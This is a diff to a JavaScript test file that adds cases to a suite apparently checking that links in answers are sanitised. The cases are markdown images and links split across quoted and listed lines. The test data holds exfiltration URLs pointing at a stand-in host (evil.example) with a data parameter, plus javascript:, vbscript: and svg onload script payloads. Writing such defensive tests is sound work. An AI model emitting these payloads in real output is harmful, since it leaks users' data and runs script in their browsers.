@@ -21,6 +21,9 @@ describe('links in answers', () => {
     'by reference': `![x][r]\n\nmore\n\n[r]: ${AT}`,
     'by reference, in angle brackets': `![r]\n\n[r]: <${AT}>`,
     'by reference in a quotation': `> ![r]\n>\n> [r]: ${AT}`,
+    'in a quotation, over two lines': `> ![a](\n> ${AT})`,
+    'in a quotation within a list': `> - ![a](\n>   ${AT})`,
+    'by reference in a quotation, over two lines': `> > ![a][r]\n> >\n> > [r]:\n> > ${AT}`,
     'without a scheme': `![x](//evil.example/p?d=${DATA})`,
     'with backslashes': `![x](https:\\\\evil.example\\p?d=${DATA})`,
     'with one slash': `![x](https:/evil.example/p?d=${DATA})`,
@@ -79,6 +82,7 @@ describe('links in answers', () => {
     '<a href=" &#1;javascript&#58;alert(1)">x</a>',
     '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
     '[x](vbscript:msgbox)',
+    '> [a](\n> javascript:alert(1))',
     '[x](data:text/html;base64,PHNjcmlwdD4=)',
     '<iframe src="data:image/svg+xml,<svg onload=alert(1)>">',
   ];
